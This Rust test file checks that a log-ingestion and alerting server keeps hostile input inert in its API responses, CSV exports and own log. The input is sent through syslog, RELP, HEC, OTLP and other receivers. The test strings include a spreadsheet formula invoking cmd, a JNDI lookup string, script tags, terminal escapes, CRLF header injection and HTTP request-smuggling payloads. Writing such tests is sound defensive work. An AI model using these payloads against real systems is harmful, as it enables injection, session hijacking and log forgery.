//! Text that means ill, through every receiver of the real program: it arrives whole, and is inert in every answer and
//! in the program's own log. And requests that try to write headers of an answer, over a bare socket.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use std::fs::{self, File};
use std::io::{Read as _, Write as _};
use std::net::{TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};

use common::Server;
use serde_json::{Value, json};

/// A formula, terminal escapes (7 and 8 bit), a script, a lookup, text that turns around, a forged header and
/// a forged line of a log.
const EVIL: &str = "=cmd|' /C calc'!A0 \u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m <script>alert(1)</script> \
    ${jndi:ldap://192.0.2.1/a} \u{202e}txt.exe\r\nSet-Cookie: stolen=1\r\n2026-10-14T00:00:00Z ERROR forged: all is well";

/// A record that a definition knows, so that the text gets into events, findings, alerts and incidents.
fn record(by: &str) -> String {
    let who = format!("{EVIL} {by}");
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": who,
        "stage": "ResponseComplete", "requestURI": who, "verb": "get",
        "user": { "username": who, "groups": [who] }, "sourceIPs": ["192.0.2.7"], "userAgent": who,
        "objectRef": { "resource": "secrets", "namespace": who, "name": who },
        "responseStatus": { "metadata": {}, "code": 200 }, "probe": by,
        "requestReceivedTimestamp": "2026-10-14T06:00:57.093441Z",
    })
    .to_string()
}

/// The same text where a line is all that there is: its line breaks would be other lines.
fn line(by: &str) -> String {
    format!("<13>Oct 14 06:00:57 {EVIL} evil[7]: {EVIL} {by}").replace(['\r', '\n'], " ")
}

const RULE: &str = "title: =1+1 <script>alert(2)</script>\nid: 6a2c9f7e-2f0e-4a8e-9d36-0a2f6c1c8d11\nstatus: test\n\
    description: '@SUM(1)'\nlogsource:\n    product: kubernetes\n    service: audit\ndetection:\n    words:\n        \
    - script\n    condition: words\nlevel: high\n";

struct House<'h> {
    server: &'h Server,
    token: &'h str,
    logs: &'h Path,
}

impl House<'_> {
    fn socket(&self, kind: &str) -> &str {
        let sockets = self.server.opened["sockets"].as_array().unwrap();
        sockets.iter().find(|one| one[0] == kind).unwrap()[1].as_str().unwrap()
    }

    fn post(&self, path: &str, headers: &[&str], body: &str) {
        let file = tempfile::NamedTempFile::new().unwrap();
        fs::write(file.path(), body).unwrap();
        let data = format!("@{}", file.path().display());
        let mut args = vec!["--data-binary", data.as_str()];
        headers.iter().for_each(|header| args.extend(["--header", header]));
        let (status, told) = self.server.curl(path, &args);
        assert!((200..300).contains(&status), "{path}: {status} {told}");
    }

    fn bearer(&self) -> String {
        format!("authorization: Bearer {}", self.token)
    }

    /// Sends over TLS, whoever the other end says that it is.
    fn tls(&self, kind: &str, bytes: &[u8]) {
        let mut openssl = Command::new("openssl")
            .args(["s_client", "-quiet", "-no_ign_eof", "-connect", self.socket(kind)])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        openssl.stdin.take().unwrap().write_all(bytes).unwrap();
        openssl.wait().unwrap();
    }
}

/// Messages as RELP frames them, after it was opened.
fn relp(messages: &[String]) -> Vec<u8> {
    let offers = "relp_version=0\nrelp_software=evil\ncommands=syslog";
    let mut all = format!("1 open {} {offers}\n", offers.len()).into_bytes();
    for (number, message) in (2..).zip(messages) {
        all.extend(format!("{number} syslog {} ", message.len()).into_bytes());
        all.extend(message.as_bytes());
        all.push(b'\n');
    }
    all.extend(format!("{} close 0\n", messages.len() + 2).into_bytes());
    all
}

fn send(address: &str, bytes: &[u8]) {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.write_all(bytes).unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut rest = Vec::new();
    let _answers = stream.read_to_end(&mut rest);
}

/// Syslog around both: a line of text, and a record in one.
fn messages(by: &str) -> Vec<String> {
    vec![line(by), format!("<13>1 2026-10-14T06:00:57Z host audit 7 - - {}", record(by))]
}

/// Every receiver: its name, and how it is given the text.
type Receiver = (&'static str, fn(&House<'_>, &str));
const RECEIVERS: &[Receiver] = &[
    ("syslog-udp", |house, by| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        for message in messages(by) {
            socket.send_to(message.as_bytes(), house.socket("syslog-udp")).unwrap();
        }
    }),
    ("syslog-tcp", |house, by| {
        let text = messages(by).join("\n") + "\n";
        send(house.socket("syslog-tcp"), text.as_bytes());
    }),
    ("syslog-tcp-counted", |house, by| {
        let counted =
            messages(by).into_iter().map(|message| format!("{} {message}", message.len()));
        let text = counted.collect::<Vec<_>>().concat();
        send(house.socket("syslog-tcp"), text.as_bytes());
    }),
    ("syslog-tls", |house, by| {
        let text = messages(by).join("\n") + "\n";
        house.tls("syslog-tls", text.as_bytes());
    }),
    ("relp", |house, by| send(house.socket("relp"), &relp(&messages(by)))),
    ("relp-tls", |house, by| house.tls("relp-tls", &relp(&messages(by)))),
    ("hec-event", |house, by| {
        let text = json!({ "host": EVIL, "source": EVIL, "sourcetype": EVIL, "index": EVIL,
            "fields": { "a": EVIL }, "event": serde_json::from_str::<Value>(&record(by)).unwrap() });
        let splunk = format!("authorization: Splunk {}", house.token);
        house.post("/services/collector/event", &[&splunk], &text.to_string());
    }),
    ("hec-raw", |house, by| {
        let splunk = format!("authorization: Splunk {}", house.token);
        let channel = "x-splunk-request-channel: FE0ECFAD-13D5-401B-847D-77833BD77131";
        house.post("/services/collector/raw?source=%3d1%1b%5b2J", &[&splunk, channel], &record(by));
    }),
    ("bulk", |house, by| {
        let index = json!({ "create": { "_index": EVIL, "_id": EVIL } });
        let json = "content-type: application/x-ndjson";
        house.post("/_bulk", &[&house.bearer(), json], &format!("{index}\n{}\n", record(by)));
    }),
    ("otlp", |house, by| {
        let text =
            |key: &str, value: &str| json!({ "key": key, "value": { "stringValue": value } });
        let body = json!({ "resourceLogs": [{ "resource": { "attributes": [text("service.name", EVIL)] },
            "scopeLogs": [{ "scope": { "name": EVIL }, "logRecords": [{
                "timeUnixNano": "1791957657093441000", "severityText": EVIL,
                "body": { "stringValue": record(by) }, "attributes": [text(EVIL, by)] }] }] }] });
        let json = "content-type: application/json";
        house.post("/v1/logs", &[&house.bearer(), json], &body.to_string());
    }),
    ("logpush", |house, by| {
        house.post("/logpush/http_requests?host=%3d1%1b%5b2J", &[&house.bearer()], &record(by));
    }),
    ("ingest", |house, by| {
        house.post("/api/v1/ingest?source=%3d1%1b%5b2J", &[&house.bearer()], &record(by));
    }),
    ("ingest-lines", |house, by| {
        house.post("/api/v1/ingest?format=syslog", &[&house.bearer()], &line(by));
    }),
    ("tail", |house, by| {
        let name = house.logs.join("=1+1 \u{1b}[2J<script>.log");
        let mut file = File::options().create(true).append(true).open(name).unwrap();
        writeln!(file, "{}", record(by)).unwrap();
    }),
];

/// Characters that do something rather than show something.
fn acts(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\r' | '\t') || matches!(c, '\u{202e}' | '\u{2028}')
}

#[test]
fn hostile_text_is_inert_whatever_it_comes_through() {
    let (data, logs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let rule = data.path().join("rule.yml");
    fs::write(&rule, RULE).unwrap();
    let tail = format!(
        "[[tail]]\nname = \"tail\"\npaths = [\"{}/*.log\"]\ntags = [\"=1+1 <script>\"]\n",
        logs.path().display()
    );
    fs::write(data.path().join("floor.toml"), tail).unwrap();
    let log = data.path().join("log");
    let (here, rule) = ("127.0.0.1:0", rule.to_str().unwrap());
    let args = [
        "--rules",
        rule,
        "--syslog-udp",
        here,
        "--syslog-tcp",
        here,
        "--syslog-tls",
        here,
        "--relp",
        here,
        "--relp-tls",
        here,
    ];
    let server = Server::start_with(data.path(), &args, File::create(&log).unwrap());
    let word = server.set_up();
    let token =
        server.sender(&word, &json!({ "name": "=1+1 <script>", "tags": ["=site", "@x=<script>"] }));
    let house = House { server: &server, token: &token, logs: logs.path() };
    for (name, give) in RECEIVERS {
        give(&house, &format!("by-{name}."));
    }
    for (name, _) in RECEIVERS {
        let sql = format!("SELECT count(*) AS n FROM events WHERE raw_data LIKE '%by-{name}.%'");
        server.wait(&word, &sql, |rows| rows[0]["n"].as_u64() > Some(0));
    }
    let (_, alerts) = server.curl("/api/v1/alerts?limit=500", &[]);
    let alerts = alerts["items"].as_array().unwrap().clone();
    assert!(alerts.len() > 5, "{alerts:?}");
    // What comes from a record is whole: as JSON it is the same text.
    assert!(alerts.iter().any(|row| row["alert"]["entities"].to_string().contains("stolen=1")));

    let mut answers = Vec::new();
    let id = alerts[0]["alert"]["alert_id"].as_str().unwrap();
    for path in [
        "alerts?limit=500",
        "alerts/facets",
        "incidents",
        "senders",
        "sources",
        "status",
        "rules",
        "audit",
        "hunts",
        &format!("alerts/{id}"),
        &format!("alerts/{id}/findings"),
        "alerts?entity=%1b%5b2J",
        "alerts?tag=%3d1%1b%5b2J",
        "hunts/%1b%5b2J",
        "login/openid/callback?error=%1b%5b2J",
        "%1b%5b2J",
    ] {
        answers.push((path.to_owned(), raw(&server, &format!("/api/v1/{path}"), &[])));
    }
    let header = format!("x-csrf-token: {word}");
    for table in
        ["events", "findings", "alerts", "incidents", "parcels", "flaws", "unrecognised", "matches"]
    {
        for format in ["json", "ndjson", "csv"] {
            let asked =
                json!({ "sql": format!("SELECT * FROM {table}"), "format": format }).to_string();
            let answer = raw(&server, "/api/v1/query", &["--json", &asked, "--header", &header]);
            if format == "csv" {
                cells_are_no_formulas(&answer.body);
            }
            answers.push((format!("{table} as {format}"), answer));
        }
    }
    let asked = json!({ "login": EVIL, "password": EVIL }).to_string();
    answers.push(("login".into(), raw(&server, "/api/v1/login", &["--json", &asked])));
    for (what, answer) in &answers {
        assert!(!answer.body.contains(acts), "{what}: {:?}", answer.body);
        let headers = answer.headers.to_lowercase();
        assert!(headers.contains("x-content-type-options: nosniff"), "{what}: {headers}");
        assert!(!headers.contains("text/html") && !headers.contains("stolen"), "{what}: {headers}");
        assert!(headers.contains("content-security-policy: default-src 'none'"), "{what}");
    }
    // What goes wrong on a wire is in the log, and what was said there is inert.
    send(house.socket("relp"), format!("1 {EVIL} 3 abc\n").as_bytes());
    let evil = format!("authorization: Bearer {EVIL}").replace(['\r', '\n'], " ");
    // It may be refused before it was read.
    let mut curl = Command::new("curl");
    curl.args(["--silent", "--insecure", "--header", &evil, "--data", "x"]);
    curl.arg(format!("{}/api/v1/ingest", server.url())).output().unwrap();
    server.stop();
    let logged = fs::read_to_string(&log).unwrap();
    assert!(logged.contains("a login failed"), "{logged}");
    assert!(!logged.contains(acts), "{logged:?}");
    assert!(
        !logged.lines().any(|line| line.contains("forged: all") && line.starts_with("2026-10-14")),
        "{logged}"
    );
}

struct Answer {
    headers: String,
    body: String,
}

fn raw(server: &Server, path: &str, args: &[&str]) -> Answer {
    let dump = tempfile::NamedTempFile::new().unwrap();
    let mut all = vec!["--dump-header", dump.path().to_str().unwrap()];
    all.extend(args);
    let (_, body) = server.text(path, &all);
    Answer { headers: fs::read_to_string(dump.path()).unwrap(), body }
}

/// No cell of a CSV begins as a spreadsheet's formula does.
fn cells_are_no_formulas(csv: &str) {
    let (mut quoted, mut begins) = (false, true);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                continue;
            }
            '"' => {
                quoted = !quoted;
                continue;
            }
            ',' | '\n' if !quoted => {
                begins = true;
                continue;
            }
            _ => {}
        }
        if begins {
            let number = c == '-' && chars.peek().is_some_and(char::is_ascii_digit);
            assert!(
                number || !"=+@-|%\t".contains(c),
                "a formula: {}",
                c.to_string() + &chars.take(40).collect::<String>()
            );
        }
        begins = false;
    }
}

/// Bare requests to a floor in the clear: whatever stands in them, an answer has the headers that the server
/// gives it and no others, and the connection is not led astray.
#[test]
fn nobody_writes_headers_of_an_answer() {
    let data = tempfile::tempdir().unwrap();
    let log = data.path().join("log");
    let server = Server::start_with(data.path(), &["--plain"], File::create(&log).unwrap());
    server.set_up();
    let address = server.url().strip_prefix("http://").unwrap();
    let requests = [
        "GET /api/v1/hunts/a%0d%0aSet-Cookie:%20stolen=1 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        "GET /api/v1/login/openid/callback?error=a%0d%0aSet-Cookie:%20stolen=1&state=%0d%0a HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        "GET /api/v1/alerts?after=%0d%0aSet-Cookie:%20stolen=1 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        "GET /\r\nSet-Cookie: stolen=1 HTTP/1.1\r\nhost: x\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\nhost: x\r\nx: a\rSet-Cookie: stolen=1\r\nconnection: close\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\nhost: x\r\nx: a\0b\r\nconnection: close\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\nhost: x\r\n folded: stolen=1\r\nconnection: close\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\n",
        "POST /api/v1/login HTTP/1.1\r\nhost: x\r\ncontent-length: +5\r\nconnection: close\r\n\r\nabcde",
        "POST /api/v1/login HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ncontent-length: 5\r\nconnection: close\r\n\r\nabcde",
        "GET /api/v1/me HTTP/1.1\r\nhost: x\r\ncookie: watchfloor=a\u{9b}2J; watchfloor=%0d%0a\r\nconnection: close\r\n\r\n",
        "POST /api/v1/login/access HTTP/1.1\r\nhost: x\r\ncf-access-jwt-assertion: a\u{9b}2J\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
        "POST /api/v1/ingest HTTP/1.1\r\nhost: x\r\nauthorization: Bearer a\u{9b}2J%0d%0a\r\ncontent-length: 1\r\nconnection: close\r\n\r\nx",
        "GET /services/collector/health?token=%0d%0aSet-Cookie:%20stolen=1 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
    ];
    for request in requests {
        let mut stream = TcpStream::connect(address).unwrap();
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        let answer = String::from_utf8_lossy(&answer);
        let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
        let names: Vec<_> = head.lines().skip(1).filter_map(|line| line.split_once(':')).collect();
        assert!(head.starts_with("HTTP/1."), "{request:?}: {answer:?}");
        assert!(
            !names.iter().any(|(name, value)| value.contains("stolen") || *name == "folded"),
            "{head}"
        );
        assert!(!names.iter().any(|(name, _)| name.eq_ignore_ascii_case("set-cookie")), "{head}");
        assert!(!head.contains("stolen") && !body.contains(acts), "{request:?}: {answer:?}");
        assert_eq!(
            answer.matches("HTTP/1.").count(),
            1,
            "one request, one answer: {request:?}: {answer:?}"
        );
    }
    assert_eq!(server.curl("/api/v1/health", &[]).0, 200);
    server.stop();
    assert!(!fs::read_to_string(&log).unwrap().contains(acts));
}
